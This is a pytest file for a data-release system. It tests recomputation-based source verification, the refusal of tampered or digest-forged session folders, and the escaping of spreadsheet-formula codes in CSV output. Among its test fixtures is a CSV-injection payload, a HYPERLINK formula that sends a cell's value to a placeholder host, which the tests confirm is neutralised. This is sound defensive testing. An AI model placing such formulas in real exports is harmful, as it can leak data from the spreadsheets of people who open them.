"""A session finalised in an area is submitted with its source verified by recomputation.

``Session(area=..., dataset=...)`` on the dataset as the audited read path gives it;
``finalise`` writes source.json beside each table; ``submit_session_folder`` (what
``release submit FOLDER`` runs) computes the table again from the dataset: every cell
equal and no file changed, the source is verified and the two checkers see the table
with its checks; a folder changed after finalise is refused.
"""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import numpy as np
import pytest
from governance_register import TODAY
from release_world import AREA, CONTEXT
from sqlalchemy import Engine, select
from stored_world import Stored, build_stored

from fivesafes.errors import IntegrityError
from fivesafes.governance.areas import Dataset
from fivesafes.outputs import Session
from fivesafes.outputs.claim import CLAIM, folder_digests
from fivesafes.release.votes import Vote
from fivesafes.services.governance import datasets
from fivesafes.services.release import views as release_views
from fivesafes.services.release.session_folder import submit_session_folder
from fivesafes.services.vault.lifecycle import ingest_dataset
from fivesafes.services.vault.read import open_dataset_for
from fivesafes.store.models.audit import AuditRecord


@pytest.fixture
def stored(engine: Engine, tmp_path: Path) -> Stored:
    stored = build_stored(engine, tmp_path)
    entry = Dataset("lfs", AREA, True, True, True, "survey", "SRSA 2007")
    stored.world.reg.act("iris", datasets.register_dataset, entry, TODAY)
    rng = np.random.default_rng(7)
    path = tmp_path / "incoming" / "lfs.csv"
    with path.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["region", "grade", "pay"])
        for i in range(800):
            region = "NSEW"[min(int(rng.integers(0, 4)), 3)] if i else "X"  # X: one record
            w.writerow(
                [region, f"g{int(rng.integers(1, 4))}", round(float(rng.lognormal(8, 1)), 2)]
            )
    ingest_dataset(stored.tx, stored.vault, "iris", AREA, path, name="lfs")
    path.unlink()
    return stored


def _finalised(stored: Stored, tmp_path: Path) -> Path:
    rows = open_dataset_for(stored.tx, stored.vault, "ada", AREA, "lfs")
    df = rows.to_pandas()
    s = Session(suppress=True, area=AREA, dataset="lfs")
    s.crosstab(df.region, df.grade, margins=True)
    s.crosstab(df.region, df.grade, values=df.pay, aggfunc="sum", margins=True)
    return s.finalise(str(tmp_path / "session"))


def _submit(stored: Stored, folder: Path) -> release_views.RequestView:
    return submit_session_folder(stored.tx, stored.vault, "ada", folder, CONTEXT)


def test_a_session_folder_is_verified_and_both_checkers_see_its_checks(
    stored: Stored, tmp_path: Path
) -> None:
    out = _finalised(stored, tmp_path)
    checks_json = json.loads((out / "checks.json").read_text())
    sub = checks_json["outputs"]["output_0"]["submissions"][0]
    assert sub["source_verified_at_submission"] and "--source" not in sub["submit"]
    for name, measure in (("output_0", "count"), ("output_1", "pay")):
        folder = out / "tables" / name
        claim = json.loads((folder / CLAIM).read_text())
        assert claim["dataset"] == "lfs" and claim["dimensions"] == ["region", "grade"]
        view = _submit(stored, folder)
        assert view.source == f"lfs:{measure}"
        for checker in ("olga", "oscar"):  # the two output checkers see it with its checks
            with stored.tx() as session:
                seen = release_views.get_request(session, view.id, checker)
            version = seen.versions[-1]
            assert version.source_verified
            checks = {c.name: c for c in version.checks}
            assert {"source", "rules", "audit", "differencing"} <= set(checks)
            assert checks["source"].verdict == "pass"
            assert "computed again from dataset earnings/lfs" in checks["source"].summary
            assert checks["audit"].verdict == "pass"
        stored.world.vote("olga", view.id, Vote.APPROVE)
    with stored.tx() as session:  # the recomputation read the dataset: an access decision
        events = session.scalars(select(AuditRecord).where(AuditRecord.dataset == "lfs")).all()
        reads = [e for e in events if e.action == "access.decide" and e.actor == "ada"]
        assert len(reads) >= 3  # the session's read, then one per submitted folder


def test_a_folder_changed_after_finalise_is_refused(stored: Stored, tmp_path: Path) -> None:
    out = _finalised(stored, tmp_path)
    folder = out / "tables" / "output_0"
    edited = tmp_path / "edited"
    shutil.copytree(folder, edited)
    cells = (edited / "cells.csv").read_text().splitlines()
    row = next(i for i, line in enumerate(cells) if line.startswith("N,g1,"))
    parts = cells[row].split(",")
    parts[2] = str(int(parts[2]) + 1)  # one more record in a cell
    cells[row] = ",".join(parts)
    (edited / "cells.csv").write_text("\n".join(cells) + "\n")
    with pytest.raises(IntegrityError, match=r"changed since the session finalised it: cells\.csv"):
        _submit(stored, edited)
    # the digests forged to match: the recomputation from the dataset still refuses it
    claim = json.loads((edited / CLAIM).read_text())
    claim["files"] = folder_digests(edited)
    (edited / CLAIM).write_text(json.dumps(claim))
    with pytest.raises(IntegrityError, match="not the table of dataset earnings/lfs"):
        _submit(stored, edited)
    assert _submit(stored, folder).source == "lfs:count"  # the folder as finalised passes


def test_a_folder_whose_report_claims_part_of_the_units_is_refused(
    stored: Stored, tmp_path: Path
) -> None:
    """The recomputation tabulates every row of the dataset, so a report.json that says
    the table covers part of the units (``population``: the differencing check would then
    take its cells for the sums of those units only) was not verified by it: refused."""
    folder = _finalised(stored, tmp_path) / "tables" / "output_0"
    report = json.loads((folder / "report.json").read_text())
    report["population"] = {"where": {"sex": ["f"]}, "domains": {"sex": ["f", "m"]}}
    (folder / "report.json").write_text(json.dumps(report))
    claim = json.loads((folder / CLAIM).read_text())
    claim["files"] = folder_digests(folder)  # the digests forged to match
    (folder / CLAIM).write_text(json.dumps(claim))
    with pytest.raises(IntegrityError, match="says the table covers part of the units"):
        _submit(stored, folder)


HYPERLINK = '=HYPERLINK("http://x/?"&C2,"click")'
FORMULA_CODES = [HYPERLINK, "@SUM(A1)", "'=quoted", "-1", "N"]


def _formula_folder(stored: Stored, tmp_path: Path) -> Path:
    """A session's count table of a dataset whose region codes look like formulas."""
    entry = Dataset("codes", AREA, True, True, True, "survey", "SRSA 2007")
    stored.world.reg.act("iris", datasets.register_dataset, entry, TODAY)
    path = tmp_path / "incoming" / "codes.csv"
    with path.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["region", "grade"])
        for i in range(400):
            w.writerow([FORMULA_CODES[i % len(FORMULA_CODES)], f"g{i % 3}"])
    ingest_dataset(stored.tx, stored.vault, "iris", AREA, path, name="codes")
    path.unlink()
    df = open_dataset_for(stored.tx, stored.vault, "ada", AREA, "codes").to_pandas()
    s = Session(suppress=True, area=AREA, dataset="codes")
    s.crosstab(df.region, df.grade, margins=True)
    return s.finalise(str(tmp_path / "session")) / "tables" / "output_0"


def test_codes_like_formulas_are_escaped_and_the_folder_still_verifies(
    stored: Stored, tmp_path: Path
) -> None:
    """cells.csv runs no formula in the checker's spreadsheet, and the recomputation from
    the dataset (raw codes) still finds every cell: the escape is undone exactly."""
    from fivesafes.sdc.formats.injection import TRIGGERS, is_number_text

    folder = _formula_folder(stored, tmp_path)
    with (folder / "cells.csv").open(newline="", encoding="utf-8") as fh:
        found = [f for row in csv.reader(fh) for f in row]
    assert not [f for f in found if f.startswith(TRIGGERS) and not is_number_text(f)]
    assert "'" + HYPERLINK in found and "''=quoted" in found
    view = _submit(stored, folder)
    assert view.source == "codes:count"
    with stored.tx() as session:
        assert release_views.get_request(session, view.id, "olga").versions[-1].source_verified


def test_a_folder_of_the_earlier_version_still_verifies(stored: Stored, tmp_path: Path) -> None:
    """Written before cells.csv was escaped: codes raw, no marker in report.json (a raw
    "'=quoted" must not lose its apostrophe), finalise's digests of those files."""
    from fivesafes.sdc import read_output_cells

    folder = _formula_folder(stored, tmp_path)
    cells = read_output_cells(folder / "cells.csv", ("region", "grade"))
    cells.to_csv(folder / "cells.csv", index=False, lineterminator="\n")  # the old writer
    assert "'=quoted," in (folder / "cells.csv").read_text()
    report = json.loads((folder / "report.json").read_text())
    del report["cells_csv"]
    (folder / "report.json").write_text(json.dumps(report, indent=2) + "\n")
    claim = json.loads((folder / CLAIM).read_text())
    claim["files"] = folder_digests(folder)  # as finalise wrote them then
    (folder / CLAIM).write_text(json.dumps(claim))
    view = _submit(stored, folder)
    with stored.tx() as session:
        assert release_views.get_request(session, view.id, "olga").versions[-1].source_verified
